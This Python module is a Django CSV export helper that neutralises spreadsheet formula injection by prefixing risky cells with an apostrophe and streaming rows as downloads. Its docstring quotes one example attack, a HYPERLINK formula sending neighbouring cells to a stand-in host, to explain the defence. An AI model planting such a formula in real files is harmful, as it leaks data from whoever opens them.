"""The one CSV writer every export uses (the cost review's tables, the ZIP's metadata.csv).

People write the text that ends up in these files: prompts, project names, display names. A
spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula (and tab or carriage
return can hide such a start), so a project named `=HYPERLINK("http://evil.example/?leak="&B3)`
would send the neighbouring cells away when the file is opened. Following OWASP's advice on CSV
injection, such a cell is written with a leading apostrophe, which spreadsheets take to mean
"text" and do not show. The one exception is a plain number: `-0.028` stays `-0.028`, because a
cell that is nothing but a sign, digits and a decimal point cannot be a formula, and a
spreadsheet should still add it up. Quoting of commas, quotes and line breaks is the csv
module's.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Iterator

from django.http import StreamingHttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Only ASCII digits: no exponent, no spaces, nothing after the number.
_PLAIN_NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?\Z")

Row = Iterable[object]


def safe_cell(value: object) -> str:
    """`value` as the text of one cell, never a formula (None is an empty cell)."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.match(text):
        return f"'{text}"
    return text


class _Echo:
    """A file that hands back what is written, so each row can be streamed as it is made."""

    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Row]) -> Iterator[str]:
    """Each row as one CSV record (`\\r\\n`-terminated, as RFC 4180 says), made safe."""
    writer = csv.writer(_Echo())
    for row in rows:
        yield writer.writerow([safe_cell(value) for value in row])


def csv_bytes(rows: Iterable[Row]) -> bytes:
    """A whole file, UTF-8 with a byte order mark so spreadsheets read accents correctly."""
    return "".join(csv_lines(rows)).encode("utf-8-sig")


def csv_response(filename: str, rows: Iterable[Row]) -> StreamingHttpResponse:
    """A download streamed row by row (a long table is never held whole in memory)."""
    response = StreamingHttpResponse(csv_lines(rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
